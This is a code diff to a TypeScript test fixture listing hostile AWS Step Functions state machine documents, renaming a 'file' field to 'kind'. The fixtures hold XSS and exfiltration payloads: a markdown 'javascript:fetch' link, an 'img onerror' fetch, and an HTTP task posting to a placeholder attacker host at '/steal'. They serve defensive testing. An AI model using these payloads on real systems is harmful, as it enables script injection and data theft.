@@ -14,7 +14,7 @@ export interface HostileDocument {
   readonly what: string;
   /** `Go` is the state that is tested; text where it is no JSON. */
   readonly document: Readonly<Record<string, unknown>> | string;
-  readonly file?: string;
+  readonly kind?: 'yaml';
   readonly input?: Readonly<Record<string, unknown>>;
 }
 
@@ -67,5 +67,5 @@ export const hostileDocuments = ({ mine, evil, bridge }: Places): readonly Hosti
   { what: 'calls the bridge by another name', document: to(`${bridge.replace('127.0.0.1', 'localhost')}/bridge/hello`) },
   { what: 'bears names that are programs', document: { QueryLanguage: 'JSONata', Comment: `[free](javascript:fetch('${evil}/steal')) ![x](${evil}/steal)`, StartAt: 'Go', States: { Go: { ...call(`${evil}/steal`), Comment: `<img src="${evil}/steal" onerror="fetch('${evil}/steal')">` }, [`<img src=${evil}/steal>`]: { Type: 'Pass', End: true }, __proto__x: { Type: 'Pass', End: true } } } },
   { what: 'answers with a page that sends', document: to(`${mine}/page`) },
-  { what: 'is YAML with parts that refer to each other', file: 'stranger.asl.yaml', document: `QueryLanguage: JSONata\nStartAt: Go\nStates:\n  Go: &go\n    Type: Task\n    Resource: arn:aws:states:::http:invoke\n    Arguments: &args\n      Method: POST\n      ApiEndpoint: ${evil}/steal\n      InvocationConfig:\n        ConnectionArn: ${MY_CONNECTION}\n    End: true\n` },
+  { what: 'is YAML with parts that refer to each other', kind: 'yaml', document: `QueryLanguage: JSONata\nStartAt: Go\nStates:\n  Go: &go\n    Type: Task\n    Resource: arn:aws:states:::http:invoke\n    Arguments: &args\n      Method: POST\n      ApiEndpoint: ${evil}/steal\n      InvocationConfig:\n        ConnectionArn: ${MY_CONNECTION}\n    End: true\n` },
 ];
